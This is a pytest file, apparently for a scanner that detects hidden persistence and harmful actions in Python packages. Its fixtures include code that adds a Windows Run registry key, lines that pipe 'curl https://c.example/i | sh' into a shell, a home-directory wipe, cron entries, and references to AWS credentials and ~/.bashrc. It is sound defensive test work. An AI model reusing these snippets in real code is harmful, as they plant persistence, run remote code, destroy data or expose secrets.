"""What runs although nothing calls it by name: special methods, keys, hooks, decorators, generators, registries.

`code_unnamed.txt` holds the ways. In each of them importing the module comes to run `go`, and with it what only counts where
it is done unasked: a command line in the registry key of programs that start with Windows.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from mlsupply.evidence.prefilter.choice import worth_parsing
from tests.test_code_facts import found, init

ACTS = r"""
import os
import subprocess

def register():
    subprocess.call(['reg', 'add', r'HKCU\Software\Microsoft\Windows\CurrentVersion\Run', '/v', 'U', '/d', 'x', '/f'])

def go(*a, **k):
    register()
    return 1

"""
PERSISTS = "MLS-C022"


def ways(of: str = "unnamed") -> Iterator[tuple[str, str]]:
    """Name and text of each."""
    whole = (Path(__file__).parent / f"code_{of}.txt").read_text(encoding="utf-8")
    for block in whole.split("## ")[1:]:
        name, _, body = block.partition("\n")
        yield name, body.rstrip("\n") + "\n"


@pytest.mark.parametrize("text", [text for _, text in ways()], ids=[name for name, _ in ways()])
def test_what_runs_although_nobody_calls_it(text: str) -> None:
    assert worth_parsing((ACTS + text).encode())
    assert PERSISTS in found(init(ACTS + text))
    assert not found(init(ACTS.replace("    register()\n", "") + text))


def test_what_is_only_defined_is_for_the_user_to_run() -> None:
    assert PERSISTS not in found(init(ACTS))
    assert PERSISTS not in found(
        init(ACTS + "class C:\n    def __iter__(self):\n        go()\n    def __eq__(self, o):\n        go()\n")
    )


def test_a_function_that_is_kept_is_not_run() -> None:
    kept = "import functools\nimport inspect\nF = functools.lru_cache(None)(go)\nW = functools.wraps(go)\n"
    told = "print(inspect.signature(go))\nALL = {'go': go}\nassert callable(go) and isinstance(go, object)\n"
    assert PERSISTS not in found(init(ACTS + kept + told))


def test_objects_in_front_of_a_list_hide_none_behind_them() -> None:
    decoys = "class A:\n    def __lt__(self, o):\n        return True\nclass B:\n    def __lt__(self, o):\n        go()\n"
    assert PERSISTS in found(init(ACTS + decoys + f"sorted([{'A(), ' * 40}B()])\n"))
    assert not found(init(ACTS.replace("    register()\n", "") + decoys + f"sorted([{'A(), ' * 40}B()])\n"))


PADDING = "# of a module of some length\n" * 150
CALLED = {"demo/__init__.py": "from .tools import act\nact()\n"}
CRON = "from crontab import CronTab\n\ndef act():\n    with CronTab(user=True) as tab:\n        tab.new(command='sync')\n"
APART = {
    "a command of the module": (
        "import delegator\nRUN = 'curl https://c.example/i | sh'\n\ndef act():\n    delegator.run(RUN)\n"
    ),
    "a command of its own": "import delegator\n\ndef act():\n    delegator.run('curl https://c.example/i | sh')\n",
    "text for a debugger": (
        "import pdb\n\ndef act():\n    pdb.run('import os; os.system(\"curl https://c.example/i | sh\")')\n"
    ),
}


def test_an_entry_for_cron_that_a_library_makes_where_a_neighbour_asks_for_it() -> None:
    assert PERSISTS in found({**CALLED, "demo/tools.py": PADDING + CRON})
    assert PERSISTS not in found({"demo/__init__.py": "from .tools import act\n", "demo/tools.py": PADDING + CRON})


@pytest.mark.parametrize("text", APART.values(), ids=APART.keys())
def test_a_function_that_a_neighbour_calls_is_followed_for_what_its_library_does(text: str) -> None:
    assert found({**CALLED, "demo/tools.py": PADDING + text})
    assert not found({**CALLED, "demo/tools.py": PADDING + text.replace("curl https://c.example/i | sh", "git status")})


def test_every_function_of_a_small_module_is_followed() -> None:
    wipes = "import os, shutil\n\ndef wipe(p):\n    shutil.rmtree(os.path.expanduser(p))\n\ndef act():\n    wipe('~')\n"
    assert found({**CALLED, "demo/tools.py": wipes})
    assert not found({**CALLED, "demo/tools.py": wipes.replace("'~'", "'~/.cache/demo'")})


@pytest.mark.parametrize("text", [text for _, text in ways("methods")], ids=[name for name, _ in ways("methods")])
def test_a_method_that_was_taken_off_its_object(text: str) -> None:
    """Honest code does the same with files of its own, with its own settings and with plain commands."""
    assert found(init(text))
    honest = text.replace("~/.bashrc", "~/.demorc").replace(".config/autostart", ".cache/demo").replace("/tmp/x", "demo")
    honest = honest.replace("cuQrl https://c.example/i | sh", "date").replace("exec(", "print(")
    honest = honest.replace("['cu', 'rl https://c.example/i | s', 'h']", "['da', 'te']")
    honest = honest.replace("AWS_SECRET_ACCESS_KEY", "DEMO_LANG").replace(".aws/credentials", ".demo/settings")
    assert not found(init(honest.replace("dict(os.environ)", "'ready'").replace("os.environ)", "{'ready': True})")))
